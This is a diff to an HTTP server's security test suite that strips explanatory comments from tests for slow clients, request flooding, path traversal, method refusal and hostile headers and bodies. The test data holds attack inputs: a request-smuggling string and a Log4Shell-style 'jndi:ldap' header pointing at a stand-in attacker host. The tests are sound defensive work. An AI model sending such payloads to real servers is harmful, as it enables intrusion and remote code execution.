@@ -72,8 +72,6 @@ const ways: Record<string, [first: string, again?: string]> = {
   ],
 }
 
-// Seen to fail without `patience` in src/server/listen.ts, where Node waits 300 s for a body, and with a
-// requestTimeout of 10 s, which with the checking interval becomes 11.
 test('a socket that is occupied by slow headers, slow bodies or silence is closed within 10 s while others are served', async () => {
   const lines = await Promise.all(
     Object.entries(ways).flatMap(([name, [first, again]]) =>
@@ -128,7 +126,6 @@ const flood = async (port: number, head: string, piece: string): Promise<number>
   return closed
 }
 
-// Seen to fail for the GET without that rule in src/server/connection.ts: its body was taken for 8 s, 10 GB of it.
 test('endless requests are cut off at once, and leave no memory in use', async () => {
   const before = apart.memory()
   for (const [name, [head, piece]] of Object.entries(endless))
@@ -136,8 +133,6 @@ test('endless requests are cut off at once, and leave no memory in use', async (
   expect(apart.memory() - before).toBeLessThan(150)
 })
 
-// Seen to fail without the waiting in src/server/connection.ts: 20 such clients took 3.3 s from everybody and some
-// 120 kB of memory for each of 30,000 requests of 31 bytes.
 test('pipelined requests are answered in turn, a few at a time, and delay nobody else', async () => {
   const few =
     requestText('GET', '/properties/ol-test01.json').repeat(5) +
@@ -195,8 +190,6 @@ const smuggling: Record<string, string> = {
     'GET /healthz HTTP/1.1\r\nHost: localhost\r\nContent-Length: 40\r\n\r\nGET /smuggled HTTP/1.1\r\nHost: hh\r\n\r\n  ',
 }
 
-// Seen to fail without the count of Host lines in src/server/connection.ts (two Hosts were 200), and without the end
-// of the connection after a GET with a body there. The rest is Node's parser: seen to fail with `insecureHTTPParser`.
 test('a request that two servers could parse differently is refused, and its connection is closed', async () => {
   for (const [name, bytes] of Object.entries(smuggling)) {
     const line = await dial(here.port)
@@ -259,7 +252,6 @@ const isHarmless = (answer: Answer | undefined, name: string) => {
   expect(stack.exec(answer?.body.toString() ?? '')?.[0], name).toBeUndefined()
 }
 
-// Seen to fail with a file of the address's decoded path read in src/server/pages.ts.
 test('an address outside the site, or none at all, is not found', async () => {
   for (const target of nowhere) {
     const [answer] = await sendBytes(
@@ -285,7 +277,6 @@ test('an address outside the site, or none at all, is not found', async () => {
   expect([absolute.status, absolute.headers['location']]).toEqual([303, '/search'])
 })
 
-// Seen to fail without the digest check in src/server/pages.ts: the file outside was served.
 test('a symbolic link out of the site folder is not followed', async () => {
   const address = '/properties/ol-test02.json'
   const right = await ask(here.port, 'GET', address)
@@ -319,7 +310,6 @@ const targets = [
   '/.well-known/mcp.json',
 ]
 
-// Seen to fail for /healthz without its own refusal in src/server/app.ts: it answered 404.
 test('a method that an address does not support is refused, with Allow', async () => {
   for (const target of targets)
     for (const method of methods) {
@@ -371,7 +361,6 @@ const absurd: Record<string, string>[] = [
   { Origin: 'null', Referer: 'javascript:alert(1)', 'User-Agent': '${jndi:ldap://evil.example/a}' },
 ]
 
-// Seen to fail with the refused types named in the answer of `problem` (src/server/problem.ts).
 test('absurd headers give the usual answer or a refusal, and nothing of them is reflected', async () => {
   for (const headers of absurd)
     for (const target of [
@@ -388,8 +377,6 @@ test('absurd headers give the usual answer or a refusal, and nothing of them is 
     }
 })
 
-// Seen to fail with `JSON.parse` and a plain object in src/server/strict-json.ts: a key named __proto__ was lost, and
-// with it its refusal.
 test('hostile bodies are refused with a message: depth, prototype keys, bytes that are no text, floods of words', async () => {
   const send = (body: string, target = '/v1/property-searches') => ask(here.port, 'POST', target, json, body)
   for (const key of ['__proto__', 'constructor', 'prototype', 'toString', 'hasOwnProperty']) {
@@ -439,7 +426,6 @@ test('hostile bodies are refused with a message: depth, prototype keys, bytes th
 })
 
 if (atLength) {
-  // Seen to fail without `setTimeout` in src/server/listen.ts: the sockets were still there.
   test('a client that reads nothing of its answer is cut off', async () => {
     // Half a megabyte each: more than the buffers of the sockets.
     const words = many(900, (index) => `preferences=${index.toString(36)}`).join('&')
@@ -484,7 +470,6 @@ if (atLength) {
     expect(longest).toBeLessThan(10_000)
   })
 
-  // Seen to fail with at most 500 connections: the occupied ones left no room for those that probe.
   test('slowhttptest finds the service available under slow headers, slow bodies and slow reading', () => {
     const tool = program('slowhttptest')
     const url = `http://127.0.0.1:${apart.port}/search`
